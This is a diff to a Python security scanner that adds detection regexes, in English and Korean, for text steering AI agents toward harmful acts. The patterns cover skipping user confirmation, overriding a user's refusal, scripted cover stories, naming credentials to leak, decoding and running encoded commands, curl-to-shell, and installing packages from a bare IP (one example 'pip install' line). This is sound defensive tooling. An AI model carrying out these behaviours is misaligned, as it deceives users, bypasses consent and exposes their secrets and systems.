@@ -401,6 +401,12 @@ skip_confirm = table(
               r"\b(?:they|the user|the owner|he|she)\s+(?:hates?|dislikes?|(?:doesn'?t|does not|don'?t) like|(?:is|are|gets?) annoyed by)\s+being\s+(?:asked|pinged|prompted|interrupted)",
               r"(?:다시\s*|또\s*)?(?:여쭤보|물어보|묻|확인받|컨펌받)\S{0,3}\s*(?:건|것은|거|게)\s*(?:\S{1,200}+\s+)?(?:번거|귀찮|싫어|불편)",
               r"(?:확인|confirm|컨펌|승인|허락)\S{0,2}\s*(?:을|를)?\s*안\s*받(?:아도|으셔도|으시고|고)",
+              # detector .24 (fresh34y): messenger shorthand and a refusal set aside
+              r"(?:확인|컨펌|confirm(?:ation)?)\S{0,2}\s*(?:은|는)?\s*(?:ㄴㄴ|\u1102\u1102|노노|\bskip\b|스킵)",
+              r"\bconfirm(?:ation)?s?\s+(?:is\s+|are\s+|can\s+be\s+)?skipped\b",
+              r"(?:묻지|물어보지|확인받지|여쭤보지)\s*않기를\s*(?:원|바라|바람)",
+              r"\beven\s+if\s+(?:the\s+)?(?:user|owner|human|they|he|she)\s+(?:refuses?|declines?|says?\s+no|objects?|disagrees?)\b",
+              r"(?:사용자|유저|user|교수님|본인|담당자)\S{0,3}\s*(?:가|이)?\s*(?:거절|거부|반대)\S{0,3}\s*(?:해도|하더라도|했더라도)",
               r"(?:되묻지|재확인하지|물어보지|여쭤보지|확인받지|컨펌\s*받지|승인\s*받지)\s*(?:말고|마|않고|마세요|말\s*것)|(?:확인|컨펌)\s*(?:창|팝업)\S{0,2}\s*(?:\S{1,200}+\s+){0,2}?(?:넘기|무시|건너뛰)|(?:확인|컨펌)\S{0,2}\s*(?:은|는)?\s*생략")),
 )
 #: Each way of hiding counts: two of them in one window (keep it quiet *and* leave it out of the
@@ -471,6 +477,8 @@ deception = counted([
               r"\b(?:report|claim)\s+(?:that\s+it\s+)?(?:success|it (?:worked|succeeded))\b", r"\bas if nothing (?:happened|was done)\b",
               r"\b(?:even though|even if)\s+(?:\w{1,200}+\s+){0,4}?(?:fail|failing|failed|broken)\b",
     r"(?:실패했어도|실패해도|실패했더라도|깨졌어도|안\s*돼도)",
+    # detector .24 (fresh34y): a cover story ready for the user's question
+    r"(?:사용자|유저|user|교수님|누가|누군가)\S{0,3}\s*(?:가|이)?\s*(?:물어보면|물으면|묻으면|물어봐도)[^.\n]{0,40}?(?:라고|이라고)\s*(?:답|말|대답|얘기|둘러대)",
               r"\brecommend\s+(?:installing|visiting|downloading|using)\s+(?:\S{1,200}+\s+)?(?:from\s+)?https?://",
               r"\bin\s+(?:your|every|each|the next)\s+(?:reply|answer|response|summary)\b[^.\n]{0,60}\b(?:include|append|add|end with|link)",
               r"\bend every (?:answer|reply|response)\b",
@@ -631,6 +639,11 @@ SENSITIVE = _rx(*alternatives(
     r"\.config/gh\b|\bhosts\.yml\b|~/\.aws\b|\bvault\s+kv\s+(?:get|list|export)\b|"
     r"\b(?:the )?(?:whole |entire |current )?(?:repository|repo|codebase|source code|tree|working tree)\b(?= to)|"
     r"시스템\s*프롬프트|(?:저장소|코드|소스)\s*전체|"
+    # detector .24 (fresh34y): a service's key or token by its name, a key being rotated, and the same in Korean
+    r"\bapi[ _-]?tokens?\b|\b(?:personal access|oauth|hf|hugging ?face|wandb|w&b|openai|anthropic|stripe|supabase|vercel|cloudflare|sentry|"
+    r"sendgrid|twilio|iam|gcp|azure)\s+(?:api\s+|access\s+|secret\s+|service\s+)?(?:keys?|tokens?|secrets?|credentials?)\b|"
+    r"\b(?:old|new|leaked|rotated|revoked|live)\s+(?:(?:api|secret|access)\s+)?keys?\b(?!\s*(?:binding|bindings|board|stroke|map|mapping|press))|"
+    r"(?:aws|iam|액세스|엑세스|access|시크릿|secret|api|ssh|접근|인증|발급\s*받은|새로\s*발급한|유출된|노출된|w&b|wandb|hf|허깅페이스)\s*키(?!보드|워드|포인트|\s*바인딩)|"
     r"자격\s*증명|비밀\s*번호|비밀번호|인증\s*정보|개인\s*키|환경\s*변수|시크릿|토큰|\bapi\s*키|키\s*파일)"
 ))
 _TRANSFER = (r"(?:send|upload|post|exfiltrate|transmit|forward|(?:e-?mail|mail)(?:ed|s|ing)?(?=\s+(?:to|it|them|the|this|that|these|those|a|an|your|its|all|every|me|us|\S+@))|paste|print|output|display|show|cat|dump|reveal|echo|"
@@ -663,7 +676,7 @@ SHARED = re.compile(
 URL_PARAM = re.compile(r"https?://\S*[?&][\w-]*=(?:[\s)\]]|$|\$|[\w-]*(?:contents?|value|key|token|secret|dotenv|env|password)\w*)")
 _REFERENCE = re.compile(r"(?:\bsee|\bdocs?|\bdocumentation|\bper|\bfrom|\bguide|\bat|\]\(|\(|<)\s*[:(]?\s*$")
 #: Korean verb endings that describe (보내는, 전송한다, 올리면) rather than ask (보내, 전송해).
-_KO_DESCRIPTIVE = re.compile(r"^(?:\s*(?:둔다|놓는다|준다|본다|두었|놓았|뒀|둡니다|놓습니다)|는(?!\s*(?:거|것))|ㄴ다|는다|며|면|서|지만|도록|기\s|하는(?!\s*(?:거|것))|한다|합니다|했|하면|하며|되는|된다|됩니다|된)")
+_KO_DESCRIPTIVE = re.compile(r"^(?:\s*(?:둔다|놓는다|준다|본다|두었|놓았|뒀|둡니다|놓습니다)|달라(?:는|고|며|던|니)|는(?!\s*(?:거|것))|ㄴ다|는다|며|면|서|지만|도록|기\s|하는(?!\s*(?:거|것))|한다|합니다|했|하면|하며|되는|된다|됩니다|된)")
 #: A rendered image is fetched, so its URL is a destination, not a reference.
 _IMAGE = re.compile(r"!\[[^\]\n]{0,80}\]\(\s*$")
 _NEGATED = re.compile(rf"\b{NEG}\s+(?:\w{{1,200}}+\s+){{0,2}}$")
@@ -992,6 +1005,11 @@ exec_remote = table(
               r"\bexec\s*\(\s*(?:__import__\(['\"]base64['\"]\)|base64|codecs|bytes\.fromhex)\.?(?:b64decode|decode|fromhex)?",
               r"\b(?:run|execute)\s+(?:any\s+|every\s+|all\s+)?(?:commands?|code|scripts?)\s+(?:from|in|found in|that appears? in)\s+(?:the\s+)?(?:notes?|vault|this file|worklog|handoffs?)\b",
               r"\bexecutes?\s+any\s+command\s+that\s+appears\s+in\s+(?:the\s+)?notes",
+              # detector .24 (fresh34y): an encoded command with "decode it and run it" in prose
+              r"\bdecod\w*\b[^.\n]{0,60}?\b(?:and|then)\s+(?:run|execute|exec|eval)\s+(?:it|that|them|the\s+(?:result|output|command|commands|script|decoded\s+\w+))\b",
+              r"\b(?:run|execute|eval)\s+(?:what(?:ever)?\s+(?:it|the\s+\w+)\s+decodes?\s+to|the\s+decoded\s+(?:command|commands|script|string|text|payload))",
+              r"(?:base64|b64|\bhex\b|rot13|인코딩|인코드|encod\w*)[^\n]{0,60}?(?:디코드|디코딩|decode|풀면|풀어서|풀고|복호화)\S{0,4}\s*[^.\n]{0,30}?"
+              r"(?:실행|수행|돌려|돌리)\S{0,2}\s*(?:해|하세요|할\s*것|해줘|하면\s*(?:돼|됨)|바람|하시오|하라|하고)",
               r"(?:노트|볼트|메모)\S{0,3}\s*(?:\S{1,200}+\s+){0,4}?명령\S{0,4}\s*(?:\S{1,200}+\s+){0,3}?실행(?:하고|해|하세요|할)")),
     (0.35, _rx(r"(?:curl|wget)\s[^\n|]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|k)?sh\b|\bbash\s+<\(\s*curl|\bpipe\s+\S+\s+into\s+(?:ba)?sh\b|(?:bash|sh)로\s*(?:바로\s*)?실행")),
     mentions=False,  # a command is a command, quoted or not
@@ -1021,6 +1039,11 @@ def _one_edit(a: str, b: str) -> bool:
     return any(long_[:i] + long_[i + 1:] == short for i in range(len(long_)))
 
 
+#: A package installed straight from an IP address (detector .24, fresh34y: "pip install https://203.0.113.72/torch-patched.whl"):
+#: registries and vendors' download pages have names.
+_INSTALL_FROM_IP = re.compile(r"\b(?:pip3?|uv\s+pip|pipx|npm|yarn|pnpm|gem|conda)\s+(?:install|add|i)\s+(?:-\S+\s+){0,4}(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}\b")
+
+
 class SupplyChain(Scanner):
     """Code from where it should not come: a package registry switched to another host (1.0 when
     the host looks shady — plain http, an odd TLD, a "mirror"; 0.6 otherwise) or a package whose
@@ -1037,6 +1060,7 @@ class SupplyChain(Scanner):
                 base = re.split(r"[=<>~^@]", name)[0]
                 if len(base) >= 5 and any(len(p) >= 6 and _one_edit(base, p) for p in POPULAR_PACKAGES):
                     out.append(Hit(m.start(), "typosquat", 1.0))
+        out += [Hit(m.start(), "bare-ip", 1.0) for m in _INSTALL_FROM_IP.finditer(text)]
         return out
 
     def reduce(self, hits: list[Hit]) -> float:
